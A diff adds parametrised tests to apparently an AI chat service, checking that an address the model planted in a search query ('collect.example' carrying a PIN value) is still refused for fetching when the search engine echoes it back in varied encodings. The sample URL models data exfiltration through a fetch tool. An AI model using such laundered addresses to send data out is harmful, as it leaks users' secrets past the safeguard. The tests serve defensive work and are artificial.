@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import re
 from pathlib import Path
 from typing import Any
 from urllib.parse import unquote, urlsplit
@@ -178,6 +179,84 @@ def test_an_address_the_model_put_in_a_search_query_is_not_given_by_its_echo(
     assert len(attempts) == 2
     for attempt in attempts:
         assert attempt["refused"] is True and "appeared in none" in attempt["error"]
+    assert lookups == []
+
+
+PLANTED = "https://collect.example/a/v?d=PIN4921"
+# How an engine may echo it in a title or snippet: re-encoded, cut short, between its own
+# quotes and brackets, or followed by punctuation.
+ECHOES = {
+    "ellipsis": f"{PLANTED}…",
+    "quotes": f"“{PLANTED}”",
+    "guillemets": f"«{PLANTED}»",
+    "brackets": f"({PLANTED})",
+    "full-stop": f"{PLANTED}.",
+    "slash-encoded": PLANTED.replace("a/v", "a%2Fv"),
+    "query-encoded": PLANTED.replace("?", "%3F"),
+    "query-encoded-lower": PLANTED.replace("?", "%3f"),
+    "letter-encoded": PLANTED.replace("/a/", "/%61/"),
+    "cut-short": "https://collect.example/a/v?d=PIN…",
+}
+
+
+def echoing(brave, monkeypatch, where: str, echo: str, url: str | None = None) -> str:
+    """The first result echoes the query's address in its title or snippet (at ``url``);
+    the address as text gives it, with what follows up to a space."""
+    first = {where: f"Pierogi: {echo} and more"}
+    monkeypatch.setattr(brave, "first_result", first | ({"url": url} if url else {}))
+    return re.search(r"https?://\S+", echo).group(0)
+
+
+@pytest.mark.parametrize("where", ["title", "description"])
+@pytest.mark.parametrize("echo", ECHOES.values(), ids=ECHOES.keys())
+def test_an_echo_of_an_address_planted_in_a_query_is_never_given_on_the_page(
+    chat, llm, brave, pages, lookups, monkeypatch, where, echo
+):
+    """The model reads the echoing result, so the digest keeps its title: the next turn must
+    not count the address there either."""
+    article = f"{pages.url}/article"
+    copied = echoing(brave, monkeypatch, where, echo, article)
+    llm.script(
+        Reply(tool_calls=[ToolCall("web_search", {"query": f"pierogi {PLANTED}"})]),
+        *fetching(article, copied),
+        Reply(text="Sorry."),
+        *fetching(copied),
+        Reply(text="Sorry again."),
+    )
+    conversation_id = new_conversation(chat, fetch_max_uses=3)
+    first = send(chat, conversation_id, "Pierogi recipes?")
+    assert echo in llm.requests[1].body["messages"][-1]["content"]  # the engine echoed it
+    second = send(chat, conversation_id, "And the address in that result?")
+
+    read, *attempts = fetches(first) + fetches(second)
+    assert read["url"] == article and read["chars"] > 0
+    assert len(attempts) == 2
+    for attempt in attempts:
+        assert attempt["refused"] is True and "appeared in none" in attempt["error"]
+    digest = llm.requests[4].body["messages"][-2]["content"]
+    assert "(an address from the search query)" in digest and "collect.example" not in digest
+    assert lookups == []
+
+
+@pytest.mark.parametrize("where", ["title", "description"])
+@pytest.mark.parametrize("echo", ECHOES.values(), ids=ECHOES.keys())
+def test_an_echo_of_an_address_planted_in_a_query_is_never_given_through_v1(
+    chat, llm, brave, lookups, monkeypatch, where, echo
+):
+    copied = echoing(brave, monkeypatch, where, echo)
+    llm.script(
+        Reply(tool_calls=[ToolCall("web_search", {"query": f"pierogi {PLANTED}"})]),
+        *fetching(copied),
+        Reply(text="Sorry."),
+    )
+    answer = chat.http.post(
+        "/v1/chat/completions",
+        json={"model": "fake-model", "messages": [{"role": "user", "content": "Pierogi?"}]},
+    )
+    assert answer.status_code == 200, answer.text
+    assert echo in llm.requests[1].body["messages"][-1]["content"]  # the engine echoed it
+    refusal = llm.requests[2].body["messages"][-1]
+    assert refusal["content"].startswith("fetch refused: this address was not given to you")
     assert lookups == []
 
 
